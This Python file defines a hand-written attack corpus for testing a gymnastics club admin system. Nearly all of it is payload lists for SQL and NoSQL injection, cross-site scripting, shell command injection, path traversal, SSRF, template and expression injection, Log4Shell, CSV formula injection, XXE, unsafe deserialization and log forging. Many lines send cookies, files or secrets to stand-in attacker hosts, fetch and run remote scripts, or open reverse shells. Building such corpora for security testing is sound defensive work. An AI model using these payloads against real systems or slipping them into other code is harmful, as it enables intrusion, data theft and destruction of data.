#!/usr/bin/env python3
"""Attack corpus for a gymnastics club admin system. Hand-written; stdlib only.
Literal blocks: one value per line, 'class ||| value'. {CR} {LF} {TAB} become \r \n \t."""
import json, os, random

SEED = 35402
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = r'''
union ||| Mia Roberts' UNION SELECT member_id, password_hash FROM coaches--
union ||| beam' union all select null,username,pw,null from staff_users-- -
union ||| 0 UNION SELECT 1,group_concat(email),3 FROM parents
union ||| GYM-0101' UNION/**/SELECT table_name,2 FROM information_schema.tables#
union ||| level 3') UNION SELECT name, dob FROM gymnasts WHERE ('1'='1
union ||| x' UnIoN SeLeCt card_last4, iban FROM fee_payments--
union ||| -1 union distinct select version(),current_user()
union ||| floor%' UNION SELECT sql,1 FROM sqlite_master--
union ||| 12.450 UNION SELECT concat(login,0x3a,pass),2,3 FROM users
union ||| Taylor'/**/UNION/**/ALL/**/SELECT/**/NULL,safeguarding_notes/**/FROM/**/welfare_cases--
union ||| ' union select 1, load_file('/etc/passwd') -- 
union ||| Ava' UNION SELECT @@version,NULL#
union ||| '+UNION+SELECT+name,pass+FROM+admins--
boolean ||| O'Neill' OR '1'='1
boolean ||| ' or 1=1-- 
boolean ||| Grace' OR 'gym'='gym' --
boolean ||| GYM-0233' AND 1=1 AND 'a'='a
boolean ||| 45.00 OR 2>1
boolean ||| admin'--
boolean ||| coach.becky@club.example.org'-- -
boolean ||| ' OR ''='
boolean ||| beam" OR "x"="x
boolean ||| vault' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a
boolean ||| Level 4' AND ASCII(SUBSTR((SELECT pin FROM coaches WHERE id=1),1,1))>52--
boolean ||| x' OR EXISTS(SELECT 1 FROM staff WHERE role='admin')--
boolean ||| 3 AND (SELECT COUNT(*) FROM gymnasts)>0
time-blind ||| Mia' AND SLEEP(5)-- 
time-blind ||| 1 AND (SELECT 1 FROM (SELECT SLEEP(7))x)
time-blind ||| '; WAITFOR DELAY '0:0:6'--
time-blind ||| floor'||pg_sleep(8)--
time-blind ||| ' AND 1=(SELECT 1 FROM pg_sleep(5))--
time-blind ||| GYM-0101' AND IF(1=1,SLEEP(4),0)#
time-blind ||| beam' AND BENCHMARK(5000000,MD5('gym'))--
time-blind ||| 1 OR dbms_pipe.receive_message('a',10)=1
time-blind ||| Ava'; SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END--
time-blind ||| x' AND (SELECT 2 FROM (SELECT(SLEEP(10)))abc)-- q
time-blind ||| 1);waitfor delay '00:00:05';--
time-blind ||| ' and randomblob(300000000)--
error-based ||| ' AND extractvalue(1,concat(0x7e,(SELECT database())))--
error-based ||| 1 AND updatexml(null,concat(0x3a,(select user())),null)
error-based ||| ' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--
error-based ||| Roberts' AND 1=CAST((SELECT password FROM coaches LIMIT 1) AS int)--
error-based ||| ' or (select 1 from(select count(*),concat((select @@version),floor(rand(0)*2))x from information_schema.tables group by x)a)--
error-based ||| vault'||(SELECT CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual)) FROM dual)||'
stacked ||| Grace'; DROP TABLE routine_scores;--
stacked ||| 1; UPDATE gymnasts SET level=10 WHERE name='Mia';--
stacked ||| '; INSERT INTO staff(email,role) VALUES('x@attacker.example','admin')--
stacked ||| 45.00; DELETE FROM fee_payments WHERE 1=1 --
stacked ||| beam'; EXEC xp_cmdshell 'ping 203.0.113.9';--
stacked ||| '; COPY (SELECT * FROM welfare_cases) TO PROGRAM 'curl -d @- http://attacker.example/c'--
stacked ||| x'; CREATE USER gymowner IDENTIFIED BY 'p4ss'; GRANT ALL ON *.* TO gymowner;--
stacked ||| 1;SELECT * INTO OUTFILE '/var/www/html/s.php' FROM fee_payments
stacked ||| '; ALTER TABLE coaches ADD pwned int;--
order-by ||| surname ORDER BY 9--
order-by ||| name,(CASE WHEN (SELECT substr(pw,1,1) FROM users LIMIT 1)='a' THEN dob ELSE surname END)
order-by ||| (SELECT 1 FROM dual WHERE 1=(SELECT 1 FROM pg_sleep(5)))
order-by ||| score desc, if(1=1,sleep(3),1)
order-by ||| 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,version())),1)
comment-evasion ||| Mia'/*!50000UNION*//*!50000SELECT*/1,2--
comment-evasion ||| '/**/oR/**/1/**/=/**/1/**/--
comment-evasion ||| beam'%0aunion%0aselect%0apassword%0afrom%0ausers--
comment-evasion ||| '	UNION	SELECT	pin,	2	FROM	coaches--
comment-evasion ||| 1/*gym*/union/*x*/select/*y*/email,2/**/from/**/parents
comment-evasion ||| 'UnIoN(SeLeCt(pw)fRoM(users))#
comment-evasion ||| x'||(select/**/group_concat(email)/**/from/**/parents)||'
encoded ||| Roberts%2527%20OR%25201%253D1--
encoded ||| %ef%bc%87 OR 1=1--
encoded ||| ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM users--
encoded ||| O&#39; OR &#39;1&#39;=&#39;1
encoded ||| \u0027 OR \u00271\u0027=\u00271
second-order ||| Coach Becky'); UPDATE users SET role='admin' WHERE email='becky@club.example.org';--
second-order ||| Ellie-Mae'-- (saved as preferred name, reused in register query)
second-order ||| GYM-0999;Mia';DROP TABLE fees;--;45.00;2024-10-01
oob ||| '; exec master..xp_dirtree '\\attacker.example\gym\a'--
oob ||| ' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\x'))--
oob ||| ' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) --
'''

XSS = r'''
script-tag ||| Great session today!<script>fetch('//attacker.example/c?'+document.cookie)</script>
script-tag ||| Mia <script src=https://attacker.example/x.js></script>
script-tag ||| </textarea><script>alert(document.domain)</script>
script-tag ||| Floor 12.45"><script>new Image().src='http://203.0.113.7/?k='+localStorage.token</script>
script-tag ||| <ScRiPt>prompt(1)</sCrIpT>
script-tag ||| <script>/*coach note*/eval(atob('YWxlcnQoMSk='))</script>
script-tag ||| Hi coach!</title><script>location='https://attacker.example/p?'+document.cookie</script>
script-tag ||| <script type="text/javascript">document.write('<img src=//attacker.example/'+document.cookie+'>')</script>
script-tag ||| <scr<script>ipt>alert(1)</scr</script>ipt>
event-handler ||| <img src=x onerror=alert(document.cookie)>
event-handler ||| Beam padding torn <img src="nope" onerror="fetch('https://attacker.example/s',{method:'POST',body:document.cookie})">
event-handler ||| <svg onload=alert`1`>
event-handler ||| <body onload=confirm(1)>
event-handler ||| Ava" onmouseover="alert(1)
event-handler ||| ' autofocus onfocus='alert(document.domain)
event-handler ||| <details open ontoggle=alert(1)>
event-handler ||| <input autofocus onfocus=eval(name)>
event-handler ||| <video><source onerror="javascript:alert(1)">
event-handler ||| <marquee onstart=alert(1)>leotards on sale</marquee>
event-handler ||| <div style="width:100%;height:100%" onpointerenter=alert(1)>Parent evening</div>
event-handler ||| <audio src=x onerror=import('//attacker.example/m.js')>
event-handler ||| <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
event-handler ||| <svg><animate onbegin=alert(1) attributeName=x dur=1s>
event-handler ||| <img src=1 oNeRrOr=alert(1)//
event-handler ||| <form><button formaction=javascript:alert(1)>Pay fees</button></form>
event-handler ||| <select autofocus onfocus=alert(1)><option>Level 3</option></select>
event-handler ||| <object data="javascript:alert(1)">
event-handler ||| <x contenteditable onblur=alert(1)>click me</x>
event-handler ||| <style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=alert(1)></b>
event-handler ||| <img src=x onerror=this.src='//attacker.example/?'+document.cookie>
js-uri ||| <a href="javascript:alert(document.cookie)">Competition results</a>
js-uri ||| javascript:fetch('//attacker.example/'+document.cookie)
js-uri ||| <a href="jav&#x09;ascript:alert(1)">music file</a>
js-uri ||| <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">leo sizes</a>
js-uri ||| <iframe src="javascript:alert`gym`"></iframe>
js-uri ||| [Club shop](javascript:alert(document.domain))
js-uri ||| <a href=" JaVaScRiPt:alert(1)">tap</a>
js-uri ||| data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
js-uri ||| <embed src="data:text/html,<script>alert(1)</script>">
js-uri ||| <svg><a xlink:href="javascript:alert(1)"><text y="20">scores</text></a></svg>
js-uri ||| <math><mtext><a href="javascript:alert(1)">x</a></mtext></math>
attr-breakout ||| Ruby" autofocus onfocus=alert(1) x="
attr-breakout ||| '><svg/onload=alert(1)>
attr-breakout ||| "><img src=x onerror=alert(1)>
attr-breakout ||| Siobhán'><script>alert(1)</script>
attr-breakout ||| x" style="position:fixed;inset:0" onmousemove="alert(1)
attr-breakout ||| </a><a href=javascript:alert(1)>Register
attr-breakout ||| "--></style></script><script>alert(1)</script>
js-context ||| ';alert(document.cookie);//
js-context ||| Mia\';alert(1);//
js-context ||| </script><script>alert(1)</script>
js-context ||| "-alert(1)-"
js-context ||| ${alert(1)}`;alert(1);`
js-context ||| '+(function(){fetch('//attacker.example/'+document.cookie)})()+'
encoded ||| &lt;script&gt;alert(1)&lt;/script&gt; rendered via innerHTML after decode
encoded ||| %3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded ||| %253Cscript%253Ealert(1)%253C/script%253E
encoded ||| \u003cimg src=x onerror=alert(1)\u003e
encoded ||| \x3csvg onload=alert(1)\x3e
encoded ||| ＜script＞alert(1)＜/script＞
encoded ||| &#60;img src=x onerror=alert(1)&#62;
encoded ||| <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
encoded ||| <img src=x onerror="\u0061lert(1)">
encoded ||| %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
encoded ||| <svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
template-xss ||| {{constructor.constructor('alert(1)')()}}
template-xss ||| <div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>
template-xss ||| <div v-html="'<img src=x onerror=alert(1)>'"></div>
css-xss ||| <div style="background:url('javascript:alert(1)')">Hall 2</div>
css-xss ||| <style>body{background:url(//attacker.example/track.gif)}</style><link rel=stylesheet href=//attacker.example/x.css>
mutation ||| <noscript><p title="</noscript><img src=x onerror=alert(1)>">
mutation ||| <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
mutation ||| <math><style><img src=x onerror=alert(1)></style></math>
dom-clobber ||| <form id=config><input name=apiUrl value=//attacker.example/api></form>
dom-clobber ||| <a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">
meta-refresh ||| <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
base-hijack ||| <base href="//attacker.example/">
'''

CMDI = r'''
semicolon ||| floor_clips.mp4; cat /etc/passwd
semicolon ||| Ruby_floor_2024.mp3;id
semicolon ||| export.csv; rm -rf /var/www/uploads
semicolon ||| beam; curl http://attacker.example/s.sh | sh
semicolon ||| 2024-10;wget -qO- 203.0.113.5/x|bash
semicolon ||| music.mp3 ; nc 198.51.100.4 4444 -e /bin/sh
semicolon ||| GYM-0101;uname${IFS}-a
semicolon ||| registers.pdf;sleep 10;
semicolon ||| Mia;ls -la /home
semicolon ||| invoice.pdf ;bash -c 'bash -i >& /dev/tcp/203.0.113.20/9001 0>&1'
pipe ||| clip.mp4 | cat /etc/shadow
pipe ||| scores.csv|whoami
pipe ||| entries || curl attacker.example/$(hostname)
pipe ||| Ava | nslookup attacker.example
pipe ||| photo.jpg|base64 /var/www/.env|curl -d @- http://attacker.example/e
pipe ||| x || ping -c 10 127.0.0.1 ||
and ||| Ruby_floor.mp3 && id
and ||| fees_oct.xlsx && wget http://attacker.example/b -O /tmp/b && chmod +x /tmp/b && /tmp/b
and ||| beam && python3 -c 'import os;os.system("id")'
and ||| x&&ping -n 10 198.51.100.3&&
and ||| vault & net user gymadmin P@ss /add &
and ||| music.wav & type C:\Windows\win.ini
backtick ||| `id`.mp3
backtick ||| Mia Roberts `curl attacker.example/m`
backtick ||| floor_`whoami`_2024.mp3
backtick ||| note: `cat /etc/hosts`
subshell ||| $(id)
subshell ||| Ruby_floor_$(curl -s attacker.example/p|sh).mp3
subshell ||| clips/$(sleep 8)/floor.mp4
subshell ||| GYM-0101$(nslookup $(whoami).attacker.example)
subshell ||| report_$(cat /etc/passwd | base64 -w0 | curl -d @- attacker.example).pdf
subshell ||| name=$(printf '\x69\x64')
newline ||| beam_check.pdf%0aid
newline ||| floor.mp3{LF}cat /etc/passwd
newline ||| entries.csv%0d%0awget attacker.example/x
newline ||| 2024-10-01{LF}curl http://203.0.113.11/s|sh{LF}
ifs-evasion ||| ;cat${IFS}/etc/passwd
ifs-evasion ||| ;{cat,/etc/passwd}
ifs-evasion ||| ;c''at /e't'c/pa""sswd
ifs-evasion ||| ;/???/c?t /???/p??s??
ifs-evasion ||| ;w\h\o\a\m\i
ifs-evasion ||| $IFS$9id
ifs-evasion ||| ;cat</etc/passwd
ifs-evasion ||| ;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)
ifs-evasion ||| ;a=ca;b=t;$a$b /etc/passwd
ifs-evasion ||| ;x=$'\x63\x61\x74';$x /etc/shadow
ifs-evasion ||| ;${PATH:0:1}bin${PATH:0:1}id
ifs-evasion ||| ;c\at /et\c/pas\swd
windows ||| report.pdf & powershell -nop -c "iwr http://attacker.example/p.ps1|iex"
windows ||| clip.mp4 | cmd /c dir C:\Users
windows ||| x & certutil -urlcache -f http://attacker.example/a.exe %TEMP%\a.exe
windows ||| scores.xlsx & ping -n 20 127.0.0.1
windows ||| %COMSPEC% /c whoami
windows ||| beam^&^&whoami
argument-injection ||| --output=/var/www/html/shell.php
argument-injection ||| -o ProxyCommand=curl${IFS}attacker.example/s|sh
argument-injection ||| floor.mp4 -vf "movie=/etc/passwd"
argument-injection ||| --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument-injection ||| -exec id ;
argument-injection ||| --upload-pack='touch /tmp/pwn' origin
argument-injection ||| -T /etc/passwd http://attacker.example/up
redirect ||| music.mp3 > /var/www/html/x.php
redirect ||| beam;echo '<?php system($_GET[c]);?>' > /var/www/html/c.php
redirect ||| x; echo "* * * * * root curl attacker.example|sh" >> /etc/crontab
redirect ||| ;cp /etc/passwd /var/www/html/p.txt
encoded ||| %3Bcat%20%2Fetc%2Fpasswd
encoded ||| floor.mp3%26%26id
encoded ||| %60id%60
encoded ||| beam%7Cnc%20198.51.100.4%204444
encoded ||| %24%28whoami%29
encoded ||| ；id
'''

TRAVERSAL = r'''
dotdot ||| ../../../../etc/passwd
dotdot ||| floor_clips/../../../../../etc/shadow
dotdot ||| ../../../var/www/.env
dotdot ||| Ruby_floor_2024.mp3/../../../../config/database.yml
dotdot ||| /coaching/2024/../../../../root/.ssh/id_rsa
dotdot ||| ..\..\..\..\windows\win.ini
dotdot ||| ..\..\..\inetpub\wwwroot\web.config
dotdot ||| exports/registers/2024/../../../../../proc/self/environ
dotdot ||| ../../../../../../home/gymclub/.bash_history
dotdot ||| photos/../../app/settings.py
dotdot ||| ../../../../etc/passwd%00.mp3
dotdot ||| ../../../../etc/passwd\u0000.pdf
dotdot ||| C:\Club\Safety\..\..\..\Windows\System32\drivers\etc\hosts
dotdot ||| ....//....//....//etc/passwd
dotdot ||| ..././..././..././etc/passwd
dotdot ||| ....\\....\\....\\windows\\win.ini
dotdot ||| ..;/..;/..;/WEB-INF/web.xml
dotdot ||| /static/..%2f..%2f..%2fetc/passwd
dotdot ||| ../../../../proc/self/cmdline
dotdot ||| leotards/../../../../../var/log/nginx/access.log
absolute ||| /etc/passwd
absolute ||| /proc/self/environ
absolute ||| C:\Windows\System32\config\SAM
absolute ||| file:///etc/passwd
absolute ||| \\attacker.example\share\fees.xlsx
absolute ||| /var/run/secrets/kubernetes.io/serviceaccount/token
encoded ||| %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded ||| %252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded ||| ..%c0%af..%c0%af..%c0%afetc/passwd
encoded ||| ..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd
encoded ||| %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded ||| ..%5c..%5c..%5cwindows%5cwin.ini
encoded ||| %2e%2e/%2e%2e/%2e%2e/var/www/.env
encoded ||| ．．／．．／．．／etc／passwd
encoded ||| ..%255c..%255c..%255cboot.ini
encoded ||| %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded ||| .%2e/.%2e/.%2e/etc/hosts
wrapper ||| php://filter/convert.base64-encode/resource=../config.php
wrapper ||| php://filter/read=string.rot13/resource=index.php
wrapper ||| zip://uploads/music.zip%23shell.php
wrapper ||| phar://uploads/avatar.jpg/test.txt
wrapper ||| expect://id
dotdot ||| avatars/2024/../../../../../usr/local/etc/php/php.ini
dotdot ||| ../../../../var/lib/mysql/mysql/user.MYD
encoded ||| ..%2F..%2F..%2F..%2Fapp%2F.git%2Fconfig
absolute ||| /root/.aws/credentials
'''

SSRF = r'''
loopback ||| http://127.0.0.1:8080/admin
loopback ||| http://localhost/server-status
loopback ||| http://127.0.0.1:6379/
loopback ||| http://[::1]:22/
loopback ||| http://0.0.0.0:9200/_cat/indices
loopback ||| https://localhost:2375/containers/json
metadata ||| http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata ||| http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata ||| http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata ||| http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata ||| http://100.100.100.200/latest/meta-data/
metadata ||| http://169.254.170.2/v2/credentials
internal ||| http://10.0.0.12:8500/v1/kv/?recurse
internal ||| http://192.168.1.1/cgi-bin/luci
internal ||| http://172.17.0.1:2379/v2/keys
internal ||| http://payments.internal/api/refunds
internal ||| http://admin-panel.svc.cluster.local/users
internal ||| http://db:5432/
internal ||| http://10.1.2.3/jenkins/script
alt-ip ||| http://2130706433/admin
alt-ip ||| http://0x7f000001/
alt-ip ||| http://017700000001:8080/
alt-ip ||| http://0x7f.0.0.1/
alt-ip ||| http://127.1/
alt-ip ||| http://[::ffff:127.0.0.1]/
alt-ip ||| http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
alt-ip ||| http://2852039166/latest/meta-data/
alt-ip ||| http://0251.0376.0251.0376/latest/user-data
alt-ip ||| http://①②⑦.⓪.⓪.①/
alt-ip ||| http://127.000.000.001/
confusion ||| http://club.example.org@127.0.0.1/admin
confusion ||| https://attacker.example#@club.example.org/
confusion ||| http://127.0.0.1%23.club.example.org/
confusion ||| http://localtest.attacker.example/ (resolves to 127.0.0.1)
confusion ||| http://169.254.169.254.nip.io/latest/meta-data/
confusion ||| http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
confusion ||| http://rebind.attacker.example:8080/admin
confusion ||| http://127.0.0.1\@club.example.org/
confusion ||| http://localhost%2509/admin
scheme ||| gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A
scheme ||| dict://127.0.0.1:11211/stats
scheme ||| file:///proc/self/environ
scheme ||| ftp://10.0.0.5/backups/db.sql
scheme ||| ldap://127.0.0.1:389/%0astats
scheme ||| gopher://localhost:25/_HELO%20attacker.example%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E
scheme ||| jar:http://attacker.example/x.jar!/
scheme ||| netdoc:///etc/passwd
'''

CODE = r'''
ssti-jinja ||| Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, your class is on Tuesday
ssti-jinja ||| {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja ||| {{config.items()}}
ssti-jinja ||| Dear {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}
ssti-jinja ||| {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}
ssti-jinja ||| {{lipsum.__globals__['os'].popen('curl attacker.example|sh').read()}}
ssti-jinja ||| {{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('id') }}
ssti-jinja ||| {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}
ssti-jinja ||| {{ ()|attr('\x5f\x5fclass\x5f\x5f') }}
ssti-jinja ||| {{7*'7'}} {{ namespace.__init__.__globals__.os.environ }}
ssti-twig ||| {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti-twig ||| {{ ['id']|filter('system') }}
ssti-twig ||| {{['cat /etc/passwd']|map('passthru')|join}}
ssti-freemarker ||| <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti-freemarker ||| ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}
ssti-velocity ||| #set($r=$class.inspect("java.lang.Runtime").type.getRuntime())$r.exec("id")
ssti-erb ||| <%= `id` %>
ssti-erb ||| <%= File.read('/etc/passwd') %>
ssti-erb ||| <%= system("curl attacker.example/r|sh") %>
ssti-smarty ||| {system('id')}
ssti-smarty ||| {php}echo `id`;{/php}
ssti-handlebars ||| {{#with "s" as |string|}}{{#with string.constructor}}{{#with (bind "return process.mainModule.require('child_process').execSync('id')")}}{{this}}{{/with}}{{/with}}{{/with}}
ssti-pug ||| #{global.process.mainModule.require('child_process').execSync('id')}
ssti-mako ||| ${__import__('os').popen('id').read()}
ssti-tornado ||| {% import os %}{{ os.popen('whoami').read() }}
ssti-razor ||| @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
el-spring ||| ${T(java.lang.Runtime).getRuntime().exec('id')}
el-spring ||| #{T(java.lang.Runtime).getRuntime().exec("curl attacker.example")}
el-spring ||| *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el-spring ||| __${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
el-ognl ||| %{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
el-ognl ||| ${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el-jsp ||| ${pageContext.request.getSession().getServletContext().getRealPath('/')}
el-jsp ||| ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
el-mvel ||| @{java.lang.Runtime.getRuntime().exec('id')}
log4shell ||| ${jndi:ldap://attacker.example/a}
log4shell ||| Mia Roberts ${jndi:rmi://203.0.113.44:1099/gym}
log4shell ||| ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell ||| ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/o}
log4shell ||| ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell ||| ${j${upper:n}di:ldaps://198.51.100.9/c}
log4shell ||| ${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example:1389/Basic/Command/id}
log4shell ||| User-Agent note: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}
log4shell ||| ${jndi:ldap://127.0.0.1#attacker.example/a}
eval-js ||| require('child_process').exec('curl attacker.example|sh')
eval-js ||| process.mainModule.require('child_process').execSync('id').toString()
eval-js ||| 12.45;global.process.exit()
eval-js ||| this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-js ||| (function(){return require('fs').readdirSync('/')})()
eval-python ||| __import__('os').system('id')
eval-python ||| 1+__import__('subprocess').check_output(['cat','/etc/passwd']).__len__()
eval-python ||| exec("import socket,os;s=socket.socket();s.connect(('203.0.113.3',4444));os.dup2(s.fileno(),1)")
eval-python ||| open('/etc/passwd').read()
eval-php ||| <?php system($_GET['c']); ?>
eval-php ||| <?= `id` ?>
eval-php ||| ";system('id');//
eval-php ||| assert("system('cat /etc/passwd')")
eval-ruby ||| #{`id`}
eval-ruby ||| Kernel.exec('id')
proto-pollution ||| {"__proto__":{"isAdmin":true}}
proto-pollution ||| {"constructor":{"prototype":{"role":"admin"}}}
proto-pollution ||| __proto__[isCoach]=true
proto-pollution ||| constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x
proto-pollution ||| {"profile":{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}
proto-pollution ||| settings.__proto__.allowedUploadTypes=.php
csv-formula ||| =HYPERLINK("http://attacker.example/?d="&A1&B1,"Click for receipt")
csv-formula ||| =cmd|' /C calc'!A0
csv-formula ||| +45.00+cmd|' /C powershell iwr attacker.example/p'!A1
csv-formula ||| -2+3+cmd|'/C notepad'!'A1'
csv-formula ||| @SUM(1+1)*cmd|' /C calc'!A0
csv-formula ||| GYM-0101;=WEBSERVICE("http://attacker.example/"&C2);45.00
csv-formula ||| =IMPORTXML(CONCAT("http://attacker.example/?",A2:C40),"//a")
csv-formula ||| 	=DDE("cmd";"/C calc";"__DdeLink_60_870516294")
csv-formula ||| =IMAGE("https://attacker.example/p.png?"&B2)
xxe ||| <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><entry><name>&x;</name></entry>
xxe ||| <!DOCTYPE scores [<!ENTITY % e SYSTEM "http://attacker.example/e.dtd"> %e;]><scores/>
xxe ||| <?xml version="1.0"?><!DOCTYPE a [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><gymnast>&s;</gymnast>
xxe ||| <!DOCTYPE x [<!ENTITY % f SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"><!ENTITY % d "<!ENTITY &#x25; s SYSTEM 'http://attacker.example/?%f;'>">%d;%s;]>
xxe ||| <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
xxe ||| <!DOCTYPE lolz [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>
deser-java ||| rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7
deser-php ||| O:8:"Registry":1:{s:4:"file";s:28:"/var/www/html/uploads/x.php";}
deser-php ||| a:1:{i:0;O:15:"GymExportWriter":2:{s:4:"path";s:15:"/tmp/shell.php";s:4:"data";s:20:"<?php system($_GET[c]);";}}
deser-python ||| cos
system
(S'curl attacker.example|sh'
tR.
deser-yaml ||| !!python/object/apply:os.system ["id"]
deser-yaml ||| !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
deser-dotnet ||| {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser-json ||| {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/x","autoCommit":true}
'''

NOSQLI = r'''
operator ||| {"username": {"$ne": null}, "password": {"$ne": null}}
operator ||| {"$gt": ""}
operator ||| {"email": "becky@club.example.org", "password": {"$regex": "^a"}}
operator ||| username[$ne]=x&password[$ne]=x
operator ||| password[$regex]=.*
operator ||| {"member_id": {"$in": ["GYM-0101","GYM-0102"]}, "$or": [{}, {"role":"admin"}]}
operator ||| {"level": {"$gte": 0}, "safeguarding": {"$exists": true}}
operator ||| pin[$gt]=
operator ||| {"name": {"$nin": []}}
operator ||| {"surname": {"$regex": ".*", "$options": "si"}}
operator ||| filter[coach][$ne]=none
operator ||| {"$or": [{"parent_email": {"$regex": ".*"}}, {"a": "b"}]}
where ||| {"$where": "this.password.length > 0"}
where ||| {"$where": "sleep(5000) || true"}
where ||| '; return true; var x='
where ||| Mia'; while(true){}; var a='
where ||| 1; return db.users.find(); 
where ||| {"$where": "function(){return this.role=='admin' || true}"}
where ||| ' || this.isAdmin == true || '
where ||| $where=1==1
aggregation ||| [{"$lookup": {"from": "welfare_cases", "localField": "_id", "foreignField": "child", "as": "x"}}]
aggregation ||| {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}
aggregation ||| [{"$out": "users"}]
js-injection ||| Mia", "$comment": "x", "role": "admin
js-injection ||| {"name": "Ava", "__proto__": {"$where": "1"}}
couch ||| _all_docs?include_docs=true
redis ||| *3\r\n$3\r\nSET\r\n$5\r\nadmin\r\n$4\r\ntrue\r\n
'''

CRLF = r'''
log-forging ||| Mia Roberts{LF}2024-10-14 09:12:01 INFO login success user=admin role=superuser
log-forging ||| late pick-up{CR}{LF}[AUDIT] welfare case SG-2024-017 closed by CWO
log-forging ||| Ava%0a2024-10-14T10:00:00Z INFO fees reconciled difference=0.00
log-forging ||| entry withdrawn%0d%0a[INFO] admin password reset for becky@club.example.org
log-forging ||| beam check OK{LF}{LF}=== SESSION END ===
log-forging ||| incident\n[WARN] safeguarding log purged by system
log-forging ||| Grace%E5%98%8A%E5%98%8D[INFO] user=admin action=export_all
log-forging ||| note{CR}INFO: DBS check verified for coach K. Evans
header-injection ||| en-GB%0d%0aSet-Cookie:%20session=attacker
header-injection ||| /dashboard%0d%0aLocation:%20https://attacker.example/
header-injection ||| report.pdf{CR}{LF}Content-Disposition: attachment; filename=evil.html
header-injection ||| GYM-0101%0d%0aX-Forwarded-For:%20127.0.0.1
header-injection ||| theme=dark%0D%0ASet-Cookie:%20role=admin;%20Path=/
